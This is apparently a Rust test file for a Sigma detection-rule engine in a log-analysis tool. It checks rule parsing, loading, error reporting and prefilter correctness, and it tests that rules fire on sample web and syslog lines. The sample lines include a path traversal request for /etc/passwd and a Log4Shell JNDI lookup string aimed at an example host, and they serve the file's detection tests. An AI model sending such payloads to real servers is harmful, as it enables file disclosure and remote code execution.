//! The Sigma groundwork on the 295 curated public rules in
//! `../shared/conformance/sigma/`: every file reads as YAML with
//! positions, and every detection's condition parses against the rule's
//! own selection names. (Matching comes with the rest of the engine.)

use canhgac::detect::sigma::{SigmaRuleSet, condition, yaml};

fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            files(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
            out.push(p);
        }
    }
}

#[test]
fn public_rules_read_and_their_conditions_parse() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigma");
    let mut list = Vec::new();
    files(&root, &mut list);
    list.sort();
    let mut conditions = 0;
    let mut bad = Vec::new();
    for path in &list {
        let text = std::fs::read_to_string(path).unwrap();
        let docs = match yaml::parse(&text) {
            Ok(d) => d,
            Err(e) => {
                bad.push(format!(
                    "{}:{}:{}: {}",
                    path.display(),
                    e.pos.line,
                    e.pos.col,
                    e.message
                ));
                continue;
            }
        };
        for doc in docs {
            let Some(det) = doc.get("detection") else {
                continue;
            };
            let yaml::Node::Map { entries, .. } = det else {
                bad.push(format!("{}: detection is not a mapping", path.display()));
                continue;
            };
            let names: Vec<String> = entries
                .iter()
                .filter_map(|(k, _)| k.as_str())
                .filter(|k| !matches!(*k, "condition" | "timeframe"))
                .map(str::to_string)
                .collect();
            let conds: Vec<&yaml::Node> = match det.get("condition") {
                Some(yaml::Node::Seq { items, .. }) => items.iter().collect(),
                Some(n) => vec![n],
                None => Vec::new(),
            };
            for c in conds {
                conditions += 1;
                let text = c.as_str().unwrap_or_default();
                if let Err(e) = condition::parse(text, &names) {
                    let p = c.pos();
                    bad.push(format!(
                        "{}:{}:{}: condition `{text}` col {}: {}",
                        path.display(),
                        p.line,
                        p.col,
                        e.col,
                        e.message
                    ));
                }
            }
        }
    }
    assert_eq!(list.len(), 295);
    assert!(conditions >= 295, "{conditions} conditions");
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn public_rules_load_and_the_rest_say_why() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigma");
    let (set, report) = SigmaRuleSet::load(&[root.as_path()]);
    let loaded: usize = report.files.iter().map(|f| f.1).sum();
    let skipped: usize = report.files.iter().map(|f| f.2).sum();
    println!(
        "{} files, {loaded} rules loaded, {skipped} skipped",
        report.files.len()
    );
    for d in &report.diagnostics {
        println!("{d}");
    }
    assert_eq!(report.files.len(), 295);
    assert_eq!(loaded, set.rules.len());
    // every diagnostic names its file, line and column
    assert!(
        report.diagnostics.iter().all(|d| d.line > 0 && d.col > 0),
        "{:?}",
        report.diagnostics
    );
    // held at today's figure
    assert_eq!(loaded, 295, "{loaded} of 295 loaded");
}

/// Public rules fire on lines read by canhgac's parsers: the W3C field
/// names, the keyword search on the raw line and the logsource mapping
/// work together.
#[test]
fn public_rules_fire_on_parsed_lines() {
    use canhgac::logs::parse::parse;
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigma");
    let (set, _) = SigmaRuleSet::load(&[root.as_path()]);
    let fired = |line: &str| -> Vec<String> {
        let p = parse(line);
        let mut t: Vec<String> = set
            .matching(p.parser, &p.fields, line)
            .iter()
            .map(|r| r.title.clone())
            .collect();
        t.sort();
        t
    };
    let t = fired(
        r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /static/../../../../etc/passwd HTTP/1.1" 400 0 "-" "curl/8""#,
    );
    assert!(
        t.iter()
            .any(|x| x == "Path Traversal Exploitation Attempts"),
        "{t:?}"
    );
    let t = fired(
        r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1" 200 5 "-" "Mozilla""#,
    );
    assert!(
        t.iter().any(|x| x.starts_with("Log4j RCE CVE-2021-44228")),
        "{t:?}"
    );
    // a harmless request fires nothing
    let t = fired(
        r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /tin-tuc/index.html HTTP/1.1" 200 5120 "-" "Mozilla/5.0""#,
    );
    assert!(t.is_empty(), "{t:?}");
    // syslog keyword rules, on the raw line
    let t = fired("Nov 26 10:00:01 gw nginx[1]: *** stack smashing detected ***: terminated");
    assert!(t.iter().any(|x| x == "Buffer Overflow Attempts"), "{t:?}");
    // a web rule does not fire on an sshd line with the same words
    let t = fired("Nov 26 10:00:01 gw sshd[1]: Invalid user ../../etc/passwd from 198.51.100.7");
    assert!(
        !t.iter()
            .any(|x| x == "Path Traversal Exploitation Attempts"),
        "{t:?}"
    );
}

/// `canhgac rules check` reports each Sigma rule that does not load at
/// file:line:column, and the good ones still load.
#[test]
fn rules_check_reports_sigma_problems_where_they_are() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bad.yml"),
        "title: t\ndetection:\n  sel:\n    a|foo: x\n  condition: sel and nosuch\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("yaml.yml"),
        "title: t\ndetection:\n  sel: [a, b\n  condition: sel\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("good.yml"),
        "title: ok\nlogsource: {category: webserver}\ndetection:\n  sel:\n    cs-method: TRACE\n  condition: sel\n",
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_canhgac"))
        .args(["rules", "check"])
        .arg(dir.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    let bad = dir.path().join("bad.yml").display().to_string();
    assert!(
        text.contains(&format!("{bad}:4:5: unknown modifier `foo`")),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "{bad}:5:22: condition: no selection named `nosuch`"
        )),
        "{text}"
    );
    assert!(text.contains("yaml.yml:4:"), "{text}");
    assert!(
        text.contains("1 rule(s) and 0 correlation(s) loaded, 2 skipped"),
        "{text}"
    );
}

/// Broken rules never panic the loader: every public rule cut at many
/// points, and with bytes flipped, loads or is reported.
#[test]
fn cut_and_damaged_rules_are_reported_not_panicked_on() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigma");
    let mut list = Vec::new();
    files(&root, &mut list);
    list.sort();
    let mut reported = 0;
    for path in list.iter().step_by(5) {
        let text = std::fs::read_to_string(path).unwrap();
        let bytes = text.as_bytes();
        for cut in (1..bytes.len()).step_by(23) {
            let mut damaged = bytes[..cut].to_vec();
            if cut % 3 == 0 {
                damaged[cut / 2] = b"|:-[{*'\"\t"[cut % 9];
            }
            let damaged = String::from_utf8_lossy(&damaged);
            let mut set = SigmaRuleSet::default();
            let mut diags = Vec::new();
            let (_, skipped) = set.add_text("x.yml", &damaged, &mut diags);
            assert_eq!(skipped > 0, !diags.is_empty());
            reported += skipped;
        }
    }
    assert!(reported > 100, "{reported}");
}

/// The prefilter only skips rules that could not match: over the labelled
/// Wazuh lines and lines built from every rule's own literals (so that
/// many rules fire), the public and bundled rules give the same matches
/// with and without it.
#[test]
fn prefilter_changes_no_result() {
    use canhgac::detect::sigma::matcher::Test;
    use canhgac::logs::parse::parse;
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let (mut set, _) = SigmaRuleSet::load(&[
        root.join("../shared/conformance/sigma").as_path(),
        root.join("rules/sigma").as_path(),
    ]);
    let mut lines: Vec<String> = Vec::new();
    let wazuh = root.join("../shared/conformance/logs/wazuh-ruleset-tests");
    for e in std::fs::read_dir(&wazuh).unwrap().flatten() {
        let text = std::fs::read_to_string(e.path()).unwrap_or_default();
        for l in text.lines() {
            if let Some((head, line)) = l.split_once(" = ")
                && head.starts_with("log ")
            {
                lines.push(line.to_string());
            }
        }
    }
    let mut literals = Vec::new();
    for r in &set.rules {
        for sel in &r.selections {
            for g in sel {
                for m in g {
                    for t in &m.tests {
                        let lit = match t {
                            Test::Eq(s) | Test::StartsWith(s) | Test::EndsWith(s) => s.clone(),
                            Test::Contains(f) => String::from_utf8_lossy(f.needle()).into_owned(),
                            Test::Glob(_, l) => l.clone(),
                            _ => continue,
                        };
                        if !lit.contains(['"', '\n']) {
                            literals.push((m.field.clone(), lit));
                        }
                    }
                }
            }
        }
    }
    assert!(literals.len() > 1000, "{}", literals.len());
    for (field, lit) in &literals {
        let upper = lit.to_uppercase();
        lines.push(format!(
            r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /a{lit}b?q={upper} HTTP/1.1" 200 5 "-" "{lit}""#
        ));
        lines.push(format!(
            "Nov 26 10:00:01 gw sshd[1]: {lit} from 198.51.100.7"
        ));
        if let Some(f) = field {
            lines.push(format!(
                r#"date=2026-11-26 time=10:00:00 type="traffic" {f}="{lit}""#
            ));
        }
    }
    let mut fired = 0usize;
    let run = |set: &SigmaRuleSet| -> Vec<Vec<usize>> {
        lines
            .iter()
            .map(|l| {
                let p = parse(l);
                set.matching_indexes(p.parser, &p.fields, l)
            })
            .collect()
    };
    let with = run(&set);
    set.no_prefilter = true;
    let without = run(&set);
    for (i, (a, b)) in with.iter().zip(&without).enumerate() {
        assert_eq!(a, b, "line {i}: {}", lines[i]);
        fired += b.len();
    }
    assert!(fired > 500, "the lines fire rules: {fired}");
}
